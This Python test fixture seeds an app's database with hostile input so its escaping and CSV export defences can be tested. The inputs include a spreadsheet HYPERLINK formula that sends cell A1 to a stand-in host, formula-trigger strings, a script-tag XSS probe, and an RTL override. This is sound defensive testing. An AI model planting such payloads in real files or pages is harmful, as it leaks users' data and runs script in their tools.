"""Text a careless or hostile user might type, for the tests of every text input and every file written."""

from __future__ import annotations

from datetime import date, time
from typing import Any

from fidelity.files import TRIGGERS

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'

# Accepted in a name (one line): formulas, quotes, the escape character itself, markup, RTL override, emoji
NAMES = [
    FORMULA,
    "+1+1 service",
    "-2+3 service",
    "@SUM(A1:A2) service",
    "'=already quoted",
    "''two quotes",
    "\\E and \\N",
    "<script>alert(1)</script>",
    '<b>bold</b> & <a href="http://example.invalid">link</a>',
    "[link](http://example.invalid) ![img](http://example.invalid/x.png) **bold** :red[red]",
    "\u202eevil right-to-left",
    "emoji 🎉👩‍⚕️",
]
# Accepted in a note (paragraphs): all of the above, and line breaks and tabs, also at the start
NOTES = [*NAMES, "\t=1+1 after a tab", "\r=1+1 after a carriage return", "line one\n=line two\r\nthree"]
# Refused everywhere, each with a message naming the field
CONTROL = ["NUL \x00 inside", "bell \x07", "escape \x1b[31m"]
LONG = "x" * 100_000


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live_trigger(cell: str) -> bool:
    """A CSV cell a spreadsheet would run: text (not a number) starting with a formula trigger."""
    return cell.startswith(TRIGGERS) and not is_number(cell)


def plant(url: str, scales: dict[str, Any]) -> dict[str, int]:
    """A database with hostile text in every text field a user can type, through the data layer.

    One service (named with a formula) in a programme and area named with markup, a final review by
    a reviewer whose display name is a formula, notes and recommendations of every kind on its 25
    items, an improvement plan with actions, owners and notes, an amendment and two outcome quarters;
    the shipped scales published, with item 5 of ips-25 verified against a source named with a formula; a
    visit plan, a case record and evidence notes of every kind.
    """
    from fidelity import db
    from fidelity.store import (
        access,
        accounts,
        amendments,
        outcomes,
        plans,
        published_scales,
        ratings,
        reviews,
        services,
        timelines,
        visits,
    )

    actor = access.operator("tester")
    with db.session_scope(db.make_engine(url)) as s:
        published_scales.seed_from_files(s, scales)
        published_scales.verify_item(  # a source named by the person who checked it
            s,
            actor=actor,
            scale_id="ips-25",
            version=scales["ips-25"].version,
            data={
                "item_number": 5,
                "source_title": FORMULA,
                "source_edition": NAMES[2],
                "source_page": "-2+3",
                "checked_on": date(2025, 1, 2),
            },
        )
        programme = services.create_programme(s, actor=actor, name=NAMES[8])
        area = services.create_area(s, actor=actor, name=NAMES[9])
        service = services.create_service(
            s,
            actor=actor,
            data={"name": FORMULA, "provider": NAMES[1], "programme_id": programme.id, "area_id": area.id},
        )
        reviewer = accounts.create_user(
            s,
            actor=actor,
            data={"username": "hostile", "display_name": NAMES[3], "role": "reviewer", "password": "a password 1"},
        )
        timelines.set_programme_timeline(  # step titles an admin typed, on every review of the programme
            s,
            actor=actor,
            programme_id=programme.id,
            rows=[
                {"key": f"step_{n}", "title": NAMES[n][:200], "owner": owner, "anchor": "visit", "days": -n}
                for n, owner in ((7, "admin"), (8, "lead reviewer"), (9, "service lead"))
            ],
        )
        review = reviews.start_review(
            s,
            actor=actor,
            scales=scales,
            data={
                "service_id": service.id,
                "scale_id": "ips-25",
                "visit_start": date(2025, 3, 1),
                "lead_user_id": reviewer.id,
            },
        )
        for number in range(1, 26):
            ratings.save_rating(
                s,
                actor=actor,
                review_id=review.id,
                data={
                    "item_number": number,
                    "score": 3,
                    "evidence": NOTES[number % len(NOTES)],
                    "rationale": NOTES[(number + 1) % len(NOTES)],
                    "strength": NOTES[(number + 2) % len(NOTES)],
                    "recommendation": NOTES[(number + 3) % len(NOTES)],
                },
            )
        planned = visits.save_plan(
            s,
            actor=actor,
            review_id=review.id,
            rows=[
                {
                    "kind": "observation",
                    "informant_role": "employer",
                    "day": date(2025, 3, 1),
                    "start": time(9, 30),
                    "minutes": 60,
                    "items": [17, 18],
                }
            ],
        )
        visits.save_records(
            s,
            actor=actor,
            review_id=review.id,
            rows=[
                {
                    "reference": "CR-0042",
                    "referral_date": date(2025, 1, 2),
                    "first_employer_contact": date(2025, 1, 20),
                    "job_start": date(2025, 2, 3),
                    "job_competitive": True,
                    "benefits_advice": True,
                }
            ],
        )
        for text in NOTES:
            visits.add_note(
                s,
                actor=actor,
                review_id=review.id,
                rater="lead",
                data={"text": text, "items": [17, 18], "session_id": planned[0].id},
            )
        reviews.finalise_review(s, actor=actor, review_id=review.id)
        plans.create_plan_from_review(s, actor=actor, review_id=review.id)
        action = plans.add_action(
            s,
            actor=actor,
            review_id=review.id,
            data={"item_number": 2, "description": FORMULA, "owner": NAMES[2], "due_date": date(2025, 6, 1)},
        )
        plans.add_action_note(s, actor=actor, action_id=action.id, noted_on=date(2025, 4, 1), text=NOTES[-1])
        amendment = amendments.amend_review(
            s, actor=actor, review_id=review.id, reason=NOTES[-3], changes={1: {"rationale": FORMULA}}
        )
        figures = {
            "specialist_fte": 2.0,
            "active_caseload": 40,
            "referrals": 20,
            "starts": 18,
            "out_of_work": 30,
            "in_work": 5,
            "out_of_work_job_starts": 9,
            "in_work_job_starts": 1,
            "total_job_starts": 11,
            "retention_successes": 3,
            "sustained_13_weeks": 6,
            "sustained_26_weeks": 4,
            "employer_contacts": 80,
        }
        for quarter in ("2025-Q2", "2025-Q3"):
            outcomes.save_outcome(s, actor=actor, service_id=service.id, quarter=quarter, figures=figures)
        return {"service": service.id, "review": review.id, "amendment": amendment.id, "reviewer": reviewer.id}
